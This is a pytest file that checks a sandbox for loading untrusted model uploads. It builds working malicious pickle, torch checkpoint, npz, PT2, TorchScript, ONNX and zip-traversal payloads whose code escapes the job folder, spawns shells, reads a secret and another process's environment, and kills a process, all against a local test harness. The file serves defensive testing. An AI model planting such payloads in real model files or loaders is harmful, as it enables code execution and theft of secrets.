"""With every check of the input switched off, the sandbox alone must hold.

`dangerous.py` opens each upload in a way that runs its code, or goes where it says. That code tries to write outside of
the job's folder, to reach the network, to start processes and programs, to read a secret, to look into and to kill
another process. Free, it can do all of that, which is the negative control; confined, nothing.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import socket
import subprocess
import sys
import threading
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
import torch

from tests.attacks.test_pt2 import meta, payload
from tests.formats.pt2_files import BIAS, WEIGHT, Pt2, symbol

SECRET = b"the password of the database"
#: Runs with `place` (a folder outside of the job's), `own` (the job's output), `secret`, `victim`, `port`.
CODE = """
import os, socket
def attempt(action):
    try:
        action()
    except BaseException:
        pass
def write(path, content=b""):
    with open(path, "wb") as file:
        file.write(content)
def fork():
    pid = os.fork()
    if pid == 0:
        write(place + "/forked")
        os._exit(0)
    os.waitpid(pid, 0)
def steal(path, name):
    with open(path, "rb") as file:
        write(own + "." + name, file.read())
attempt(lambda: write(place + "/written"))
attempt(lambda: socket.create_connection(("127.0.0.1", port), 5).sendall(name.encode()))
attempt(fork)
attempt(lambda: os.system("touch '" + place + "/executed'"))
attempt(lambda: os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "touch '" + place + "/spawned'"]))
attempt(lambda: steal(secret, "secret"))
attempt(lambda: steal("/proc/%d/environ" % victim, "environ"))
attempt(lambda: os.chmod(secret, 0o604))
attempt(lambda: os.kill(victim, 9))
attempt(lambda: write(own + ".ran"))
"""
#: All that this code brings about where nothing holds it.
ALL = {"written", "connected", "forked", "executed", "spawned", "secret", "environ", "chmod", "killed", "ran"}


class Running:
    """Unpickling this runs some code."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code, {})


class Restored(torch.nn.Module):
    """A script that has code of its own run as soon as it is loaded."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path
        self.mapped = torch.zeros(1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path, self.training = state
        self.mapped = torch.from_file(self.path, True, 4)


def pickled(code: str) -> bytes:
    return pickle.dumps(Running(code))


def saved(code: str) -> bytes:
    buffer = io.BytesIO()
    torch.save(Running(code), buffer)
    return buffer.getvalue()


def exported(folder: Path, samples: bytes | None = None, **changes: Any) -> bytes:
    if samples is None:
        buffer = io.BytesIO()
        torch.save(((torch.ones(2, 4),), {}), buffer)
        samples = buffer.getvalue()
    members = {"data/sample_inputs/model.pt": samples}
    return Pt2(members=members, **changes).write(folder / "scratch.pt2").read_bytes()


def with_pickled_weights(folder: Path, code: str) -> bytes:
    weights = Pt2().weights | {"evil": payload("evil", meta([1]), use_pickle=True)}
    records = {"data/weights/weight_0": WEIGHT, "data/weights/weight_1": BIAS, "data/weights/evil": saved(code)}
    return exported(folder, weights=weights, records=records)


def arrays(code: str) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, x=np.array([Running(code)], object), y=np.zeros(1, np.int64))
    return buffer.getvalue()


def script(path: Path) -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Restored(str(path))), buffer)
    return buffer.getvalue()


def archive(*entries: tuple[str, bytes, int]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        for name, content, mode in entries:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            file.writestr(info, content)
    return buffer.getvalue()


def model_with_external_data(location: str) -> bytes:
    tensor = onnx.TensorProto(name="w", data_type=1, dims=[1], data_location=onnx.TensorProto.EXTERNAL)
    tensor.external_data.add(key="location", value=location)
    graph = onnx.helper.make_graph([], "g", [], [], [tensor])
    return bytes(onnx.helper.make_model(graph).SerializeToString())


@dataclass(frozen=True)
class Case:
    """One upload: how it is opened, and where and upon whom it is to have its effects."""

    root: Path
    name: str
    port: int
    victim: subprocess.Popen[bytes]

    @property
    def place(self) -> Path:
        return self.root / "outside" / self.name

    @property
    def secret(self) -> Path:
        return self.root / "outside" / f"{self.name}.secret"

    @property
    def own(self) -> Path:
        return self.root / "job" / "output" / self.name

    @property
    def code(self) -> str:
        names = {"place": self.place, "own": self.own, "secret": self.secret, "name": self.name}
        given = "".join(f"{name} = {str(value)!r}\n" for name, value in names.items())
        return f"{given}port, victim = {self.port}, {self.victim.pid}\n{CODE}"

    @property
    def expression(self) -> str:
        """Runs the code from a file, since it takes statements."""
        path = self.root / "job" / "input" / f"{self.name}.py"
        path.write_text(self.code)
        return f"exec(open({str(path)!r}).read(), {{}})"

    def effects(self, connected: set[str]) -> set[str]:
        """What has come of it."""
        seen = {path.name for path in self.place.iterdir()}
        seen |= {ending for ending in ("secret", "environ", "ran") if Path(f"{self.own}.{ending}").exists()}
        facts = {
            "connected": self.name in connected,
            "killed": self.victim.poll() is not None,
            "chmod": self.secret.stat().st_mode & 0o7777 != 0o600,
        }
        return seen | {name for name, is_so in facts.items() if is_so}


def climbing(case: Case) -> str:
    return str(Path("../../outside") / case.name / "climbed")


#: The way to open it (a function of `dangerous.py`), its content, and what comes of it where nothing holds it.
CASES: dict[str, tuple[str, Callable[[Case], bytes], set[str]]] = {
    "pickle": ("load_pickle", lambda case: pickled(case.code), ALL),
    "checkpoint": ("load_checkpoint", lambda case: saved(case.code), ALL),
    "arrays": ("load_npz", lambda case: arrays(case.code), ALL),
    "pt2 sample inputs": (
        "load_exported",
        lambda case: exported(case.root, saved(case.code)),
        ALL,
    ),
    "pt2 pickled weights": ("load_exported", lambda case: with_pickled_weights(case.root, case.code), ALL),
    "pt2 expression": (
        "load_exported",
        lambda case: exported(
            case.root, values={"x": meta([symbol(case.expression), 4]), "y": meta([symbol(case.expression), 3])}
        ),
        ALL,
    ),
    "sympy": ("sympify", lambda case: case.expression.encode(), ALL),
    "pt2 guards": ("evaluate", lambda case: case.expression.encode(), ALL),
    "pt2 from_file": ("map_a_file", lambda case: bytes(case.place / "mapped"), {"mapped"}),
    "TorchScript": ("load_script", lambda case: script(case.place / "mapped"), {"mapped"}),
    "onnx external data": ("external_data", lambda case: model_with_external_data(str(case.secret)), {"secret"}),
    "zip with ..": ("unpack", lambda case: archive((climbing(case), b"", 0o100644)), {"climbed"}),
    "zip with a link": (
        "unpack",
        lambda case: archive(("link", bytes(case.place), 0o120777), ("link/linked", b"", 0o100644)),
        {"linked"},
    ),
}


class Listener(threading.Thread):
    """Takes connections, and the name that each of them says."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.names: set[str] = set()
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]

    def run(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed
                return
            with connection:
                self.names.add(connection.recv(100).decode())

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self.join(5)


def run_all(root: Path, mode: str) -> dict[str, set[str]]:
    """Open all uploads in one process, and see what each of them did."""
    for name in ("job/input", "job/output", "job/tmp", "outside"):
        (root / name).mkdir(parents=True)
    listener = Listener()
    listener.start()
    victims = {name: subprocess.Popen(["sleep", "600"]) for name in CASES}
    try:
        made = [Case(root, name, listener.port, victim) for name, victim in victims.items()]
        for case in made:
            case.place.mkdir()
            case.secret.write_bytes(SECRET)
            case.secret.chmod(0o600)
            (root / "job" / "input" / case.name).write_bytes(CASES[case.name][1](case))
        plan = {name: way for name, (way, _, _) in CASES.items()}
        (root / "job" / "input" / "plan.json").write_text(json.dumps(plan))
        command = [sys.executable, "-P", str(Path(__file__).with_name("dangerous.py")), str(root / "job"), mode]
        environment = os.environ | {
            "PYTHONPATH": str(Path(__file__).parents[2]),
            "TMPDIR": str(root / "job" / "tmp"),
            "OMP_NUM_THREADS": "1",
        }
        done = subprocess.run(command, env=environment, timeout=200, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr
        assert len(done.stdout.splitlines()) >= len(CASES), done.stdout  # it lived to the last of them
        print(done.stdout)
        return {case.name: case.effects(listener.names) for case in made}
    finally:
        for victim in victims.values():
            victim.kill()
            victim.wait()
        listener.close()


@pytest.fixture(scope="module")
def free(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    return run_all(tmp_path_factory.mktemp("free"), "free")


@pytest.fixture(scope="module")
def confined(tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[str]]:
    return run_all(tmp_path_factory.mktemp("confined"), "confined")


@pytest.mark.parametrize("name", CASES)
def test_outside_of_the_sandbox_the_attack_succeeds(free: dict[str, set[str]], name: str) -> None:
    assert free[name] == CASES[name][2]


@pytest.mark.parametrize("name", CASES)
def test_inside_of_the_sandbox_it_reaches_nothing(confined: dict[str, set[str]], name: str) -> None:
    """The code runs, and may write to the job's own output; that is all that comes of it."""
    assert confined[name] == CASES[name][2] & {"ran"}
